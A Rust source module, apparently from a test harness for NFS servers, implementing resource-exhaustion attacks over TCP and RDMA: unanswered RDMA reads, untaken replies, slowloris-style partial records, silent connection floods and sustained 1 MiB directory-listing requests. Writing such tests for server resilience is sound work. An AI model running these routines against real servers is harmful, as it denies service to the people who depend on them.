//! Attacks that hold shared resources of a server: memory, connections, time.

use std::{
    io::{self, Read, Write},
    net::{IpAddr, SocketAddr, TcpStream},
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

use crate::{
    Event, Files, Peer, READ_WRITE,
    calls::{self, NULL, READ, READDIR, REMOVE},
    wire::connect_from,
};

/// Size of a large READ or WRITE in bytes.
const TRANSFER: u32 = 1 << 20;
/// A tag that is not exposed. Any tag can be used because its data is ignored.
const UNEXPOSED_TAG: u32 = 0x6666_6666;
/// Time limit for a server's reply.
const TIMEOUT: Duration = Duration::from_secs(20);

/// Connections that hold resources until they are dropped.
#[derive(Default)]
pub struct Held {
    tcp: Vec<TcpStream>,
    rdma: Vec<Peer>,
    /// Threads that make calls until they are stopped.
    busy: Vec<JoinHandle<()>>,
    stop: Arc<AtomicBool>,
}

impl Held {
    /// Number of connections.
    pub fn connections(&self) -> usize {
        self.tcp.len() + self.rdma.len() + self.busy.len()
    }
}

impl Drop for Held {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.busy.drain(..) {
            drop(thread.join());
        }
    }
}

/// An RPC record with a call.
fn record(xid: u32, procedure: [u32; 3], arguments: &[u8]) -> Vec<u8> {
    let call = calls::rpc(xid, procedure, arguments);
    [&(call.len() as u32 | 1 << 31).to_be_bytes()[..], &call].concat()
}

fn read_arguments(file: &[u8], count: u32) -> Vec<u8> {
    [calls::opaque(file), calls::words(&[0, 0, count])].concat()
}

/// Connects over RDMA, and requests the maximum number of credits; calls beyond the credits would end the
/// connection.
fn with_credits(to: SocketAddr, from: IpAddr) -> io::Result<(Peer, u32)> {
    let mut peer = Peer::over(connect_from(from, to)?)?.connected(READ_WRITE)?;
    peer.send(&[calls::words(&[1, 1, 64, 0, 0, 0, 0]), calls::rpc(1, NULL, &[])].concat())?;
    let Event::Send(reply, _) = peer.event()? else { return Err(io::ErrorKind::InvalidData.into()) };
    Ok((peer, calls::word(&reply, 8)?))
}

/// Sends calls in chunks of more than 1 MiB whose RDMA Reads are not answered.
///
/// # Errors
/// The server cannot be reached.
pub fn unanswered_reads(to: SocketAddr, from: IpAddr, connections: u32, calls: u32) -> io::Result<Held> {
    let mut held = Held::default();
    for _ in 0..connections {
        let (mut peer, credits) = with_credits(to, from)?;
        for xid in 2..2 + calls.min(credits) {
            // RDMA_NOMSG with a Position-Zero Read chunk.
            let chunk = [1, 0, UNEXPOSED_TAG, TRANSFER + (64 << 10), 0, 0, 0];
            peer.send(
                &[calls::words(&[xid, 1, 64, 1]), calls::words(&chunk), calls::words(&[0, 0])].concat(),
            )?;
        }
        held.rdma.push(peer);
    }
    Ok(held)
}

/// Sends READs over RDMA whose results are not received.
///
/// # Errors
/// The server cannot be reached.
pub fn untaken_rdma_writes(
    to: SocketAddr,
    from: IpAddr,
    file: &[u8],
    connections: u32,
    calls: u32,
) -> io::Result<Held> {
    let mut held = Held::default();
    for _ in 0..connections {
        let (mut peer, credits) = with_credits(to, from)?;
        for xid in 2..2 + calls.min(credits) {
            // RDMA_MSG with a Write chunk of one segment.
            let chunk = [1, 1, UNEXPOSED_TAG, TRANSFER, 0, 0, 0];
            let header = [&[xid, 1, 64, 0, 0][..], &chunk, &[0]].concat();
            let call = calls::rpc(xid, READ, &read_arguments(file, TRANSFER));
            peer.send(&[calls::words(&header), call].concat())?;
        }
        held.rdma.push(peer);
    }
    Ok(held)
}

/// Sends READs over TCP whose replies are not received.
///
/// # Errors
/// The server cannot be reached.
pub fn untaken_replies(
    to: SocketAddr,
    from: IpAddr,
    file: &[u8],
    connections: u32,
    calls: u32,
) -> io::Result<Held> {
    let mut held = Held::default();
    for _ in 0..connections {
        let mut stream = connect_from(from, to)?;
        for xid in 0..calls {
            stream.write_all(&record(xid, READ, &read_arguments(file, TRANSFER)))?;
        }
        held.tcp.push(stream);
    }
    Ok(held)
}

/// Sends the first 512 bytes of records of more than 1 MiB: enough for a server that examines the start of a record before
/// it allocates memory.
///
/// # Errors
/// The server cannot be reached.
pub fn partial_records(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result<Held> {
    let mut held = Held::default();
    for from in from.iter().cycle().take(connections) {
        let mut stream = connect_from(*from, to)?;
        stream.write_all(&(1 << 31 | (TRANSFER + 4096)).to_be_bytes())?;
        stream.write_all(&[0; 512])?;
        held.tcp.push(stream);
    }
    Ok(held)
}

/// Opens connections on which nothing is sent.
///
/// # Errors
/// The server cannot be reached.
pub fn silent(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result<Held> {
    let mut held = Held::default();
    for from in from.iter().cycle().take(connections) {
        held.tcp.push(connect_from(*from, to)?);
    }
    Ok(held)
}

/// Requests directory listings of 1 MiB, with `waiting` calls in flight on each connection.
///
/// # Errors
/// The server cannot be reached.
pub fn listings(
    to: SocketAddr,
    from: IpAddr,
    directory: &[u8],
    connections: u32,
    waiting: u32,
) -> io::Result<Held> {
    let mut held = Held::default();
    let arguments = [calls::opaque(directory), calls::words(&[0, 0, 0, 0, TRANSFER])].concat();
    for _ in 0..connections {
        let mut stream = connect_from(from, to)?;
        stream.set_read_timeout(Some(Duration::from_millis(100)))?;
        for xid in 0..waiting {
            stream.write_all(&record(xid, READDIR, &arguments))?;
        }
        let (stop, arguments) = (Arc::clone(&held.stop), arguments.clone());
        held.busy.push(std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) && take_record(&mut stream, &stop).is_ok() {
                if stream.write_all(&record(waiting, READDIR, &arguments)).is_err() {
                    return;
                }
            }
        }));
    }
    Ok(held)
}

/// Receives one record, and discards it.
fn take_record(stream: &mut TcpStream, stop: &AtomicBool) -> io::Result<()> {
    let mut mark = [0; 4];
    read_exact(stream, &mut mark, stop)?;
    let mut body = vec![0; (u32::from_be_bytes(mark) & !(1 << 31)) as usize];
    read_exact(stream, &mut body, stop)
}

fn read_exact(stream: &mut TcpStream, mut bytes: &mut [u8], stop: &AtomicBool) -> io::Result<()> {
    while !bytes.is_empty() {
        match stream.read(bytes) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(n) => bytes = bytes.get_mut(n..).unwrap_or_default(),
            Err(e) if e.kind() == io::ErrorKind::WouldBlock && !stop.load(Ordering::Relaxed) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(())
}

/// Sends one REMOVE with an invalid handle, which must fail, from each of the addresses.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn refused_changes(to: SocketAddr, from: impl IntoIterator<Item = IpAddr>) -> io::Result<u32> {
    let arguments = [calls::opaque(&[7; 32]), calls::opaque(b"name")].concat();
    let mut made = 0;
    for from in from {
        let mut stream = connect_from(from, to)?;
        stream.set_read_timeout(Some(TIMEOUT))?;
        stream.write_all(&record(made, REMOVE, &arguments))?;
        take_record(&mut stream, &AtomicBool::new(true))?;
        made += 1;
    }
    Ok(made)
}

/// Sends a REMOVE and returns its status; with the same `xid` it is a retransmission.
///
/// # Errors
/// The server cannot be reached, or does not respond.
pub fn remove(to: SocketAddr, from: IpAddr, xid: u32, directory: &[u8], name: &str) -> io::Result<u32> {
    let mut stream = connect_from(from, to)?;
    stream.set_read_timeout(Some(TIMEOUT))?;
    stream.write_all(&record(
        xid,
        REMOVE,
        &[calls::opaque(directory), calls::opaque(name.as_bytes())].concat(),
    ))?;
    let mut reply = [0; 32];
    stream.read_exact(&mut reply)?;
    calls::word(&reply, 28)
}

/// Returns the root handle of an export and the handle of a file in it.
///
/// # Errors
/// The export or the file does not exist.
pub fn handles(to: SocketAddr, export: &str, name: &str) -> io::Result<(Vec<u8>, Vec<u8>)> {
    let mut files = Files::new(Peer::connect(to, READ_WRITE)?);
    let root = files.mount(export)?;
    let file = files.lookup(&root, name)?;
    Ok((root, file))
}
